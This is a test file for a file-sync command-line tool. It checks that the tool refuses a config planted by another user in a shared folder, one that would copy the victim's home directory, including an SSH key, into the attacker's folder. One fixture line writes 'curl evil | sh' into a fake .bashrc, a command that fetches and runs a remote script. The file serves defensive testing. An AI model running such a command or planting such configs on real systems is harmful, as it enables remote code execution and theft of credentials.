// Attack (issue "Security", item 2): another user plants `.vscode/remote-sync.json` in a
// world-writable folder above the victim's project, with `"localRoot": "~"` and a local target in
// the attacker's folder. The victim's `cd /shared/project && remote-sync run` must not pick it up:
// the search stops at a folder the victim does not own, a config file of another user (or one that
// others can change) is refused with a message, and the home folder is neither copied nor written.
// $HOME is a stand-in home in the temp folder, so a failing test cannot touch the real one.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runCliProcess } from '../../harness/cli.js';
import { ensureAttacker, type Attacker } from '../../harness/attacker.js';

const KEY = '-----BEGIN OPENSSH PRIVATE KEY-----\nnot a real key\n';
let root: string;
let attacker: Attacker | undefined;
let skip: string | undefined;
before(() => {
  root = mkdtempSync(join(tmpdir(), 'rs-planted-config-'));
  chmodSync(root, 0o755);
  const who = ensureAttacker();
  if ('skip' in who) skip = who.skip; else attacker = who;
});
after(() => { rmSync(root, { recursive: true, force: true }); });

let n = 0;
/**
 * <case>/home: the victim's home (with .ssh/id_ed25519); <case>/shared: world-writable, holding the
 * attacker's config and loot folder; <case>/shared/project: the victim's project.
 */
function scene(sharedOwner: 'attacker' | 'victim', sticky: boolean) {
  const a = attacker!;
  const dir = join(root, String(n++));
  const home = join(dir, 'home');
  const shared = join(dir, 'shared');
  mkdirSync(join(home, '.ssh'), { recursive: true });
  writeFileSync(join(home, '.ssh/id_ed25519'), KEY);
  mkdirSync(shared, { recursive: true });
  chmodSync(shared, sticky ? 0o1777 : 0o777);
  if (sharedOwner === 'attacker') chownSync(shared, a.uid, a.gid);
  // the attacker's part
  const loot = join(shared, 'loot');
  mkdirSync(join(shared, '.vscode'));
  mkdirSync(loot);
  writeFileSync(join(loot, '.bashrc'), 'curl evil | sh\n');
  const config = join(shared, '.vscode/remote-sync.json');
  writeFileSync(config, JSON.stringify({ localRoot: '~', targets: { loot: { protocol: 'local', remotePath: loot } } }));
  chmodSync(config, 0o644);
  for (const p of [join(shared, '.vscode'), loot, join(loot, '.bashrc'), config]) chownSync(p, a.uid, a.gid);
  // the victim's project
  const project = join(shared, 'project');
  mkdirSync(join(project, 'src'), { recursive: true });
  return { dir, home, shared, loot, config, project };
}

function runAsVictim(s: ReturnType<typeof scene>, extra: string[] = []) {
  return runCliProcess(['run', ...extra], { cwd: join(s.project, 'src'), env: { HOME: s.home, REMOTE_SYNC_PASSWORD: 'victim-secret' } });
}

function nothingHappened(s: ReturnType<typeof scene>) {
  assert.deepEqual(readdirSync(s.loot), ['.bashrc'], 'nothing copied to the attacker');
  // (the one thing the CLI keeps there: its own code cache, ~/.cache/remote-sync/*.v8cache)
  assert.deepEqual(readdirSync(s.home).filter((n) => n !== '.cache').sort(), ['.ssh'], 'nothing written into the home folder');
  const cache = join(s.home, '.cache');
  if (existsSync(cache)) {
    assert.deepEqual(readdirSync(cache), ['remote-sync'], 'nothing but the code cache in ~/.cache');
    for (const n of readdirSync(join(cache, 'remote-sync'))) assert.match(n, /^[\w-]+\.v8cache$/);
  }
  assert.equal(readFileSync(join(s.home, '.ssh/id_ed25519'), 'utf8'), KEY);
  assert.equal(existsSync(join(s.home, '.remote-sync')), false);
}

test('a shared folder owned by another user: the search stops there', (t) => {
  if (skip) { t.skip(skip); return; }
  const s = scene('attacker', false);
  const r = runAsVictim(s);
  assert.equal(r.code, 1, r.stdout + r.stderr);
  assert.match(r.stderr, new RegExp(`No \\.vscode/remote-sync\\.json in ${join(s.project, 'src')} or a folder above it ` +
    `\\(the search stopped at ${s.shared}: it is owned by ${attacker!.name} \\(uid ${attacker!.uid}\\), not by you\\)`));
  nothingHappened(s);
});

test('a world-writable folder of the victim (like /tmp): the config file of another user is refused, named, with the fix', (t) => {
  if (skip) { t.skip(skip); return; }
  for (const sticky of [true, false]) {
    const s = scene('victim', sticky);
    for (const extra of [[], ['--json'], ['--dry-run']]) {
      const r = runAsVictim(s, extra);
      assert.equal(r.code, 1, r.stdout + r.stderr);
      assert.match(r.stderr, new RegExp(`Refusing the config file ${s.config}: it is owned by ${attacker!.name} \\(uid ${attacker!.uid}\\), not by you`));
      assert.match(r.stderr, /safe\.directory/);
      if (extra[0] === '--json') assert.equal(JSON.parse(r.stdout).errors[0].code, 'config');
    }
    nothingHappened(s);
  }
});

test("the victim's own config, but writable by others, is refused too; made private, it runs and names itself on the first line", (t) => {
  if (skip) { t.skip(skip); return; }
  const s = scene('victim', true);
  // the victim's own project config, with a target of their own
  const mine = join(s.project, '.vscode/remote-sync.json');
  const mirror = join(s.dir, 'mirror');
  mkdirSync(join(s.project, '.vscode'));
  mkdirSync(mirror);
  writeFileSync(join(s.project, 'src/page.html'), 'p');
  writeFileSync(mine, JSON.stringify({ targets: { mirror: { protocol: 'local', remotePath: mirror } } }));
  chmodSync(mine, 0o666);
  const open = runAsVictim(s);
  assert.equal(open.code, 1, open.stdout + open.stderr);
  assert.match(open.stderr, new RegExp(`Refusing the config file ${mine}: other users can change it \\(mode 0666\\).*chmod go-w ${mine}`));
  assert.deepEqual(readdirSync(mirror), []);
  chmodSync(mine, 0o644);
  const ok = runAsVictim(s, ['--mode', 'upload']);
  assert.equal(ok.code, 0, ok.stdout + ok.stderr);
  assert.equal(ok.stdout.split('\n')[0], `config ${mine}, target mirror`);
  assert.deepEqual(readdirSync(mirror).sort(), ['.vscode', 'src']);
  nothingHappened(s);
});
